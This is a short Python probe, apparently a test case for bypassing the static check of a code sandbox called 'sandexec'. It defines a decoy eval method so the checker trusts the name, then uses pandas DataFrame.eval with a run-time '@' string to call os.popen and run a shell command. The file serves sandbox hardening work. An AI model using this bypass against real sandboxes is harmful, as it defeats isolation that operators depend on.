# source: sandexec README, "The static check", 'self.to_csv(p) needs the script's own def to_csv' / 'def eval(self) ... self.eval(x) is fine when the script defines eval'
# family: trusted method name defined in ANY class of the script trusts self.eval in a DataFrame subclass's method
# goal: DataFrame.eval on a run-time '@pd.io.common.os.popen("id")'
import pandas as pd
class A:
    def eval(self, e, **kw):
        return None
class Frame(pd.DataFrame):
    def go(self, e):
        return self.eval(e)
f = Frame({"a": [1.0]})
print(f.go(chr(64) + "pd.io.common.os.popen('id').read()"))
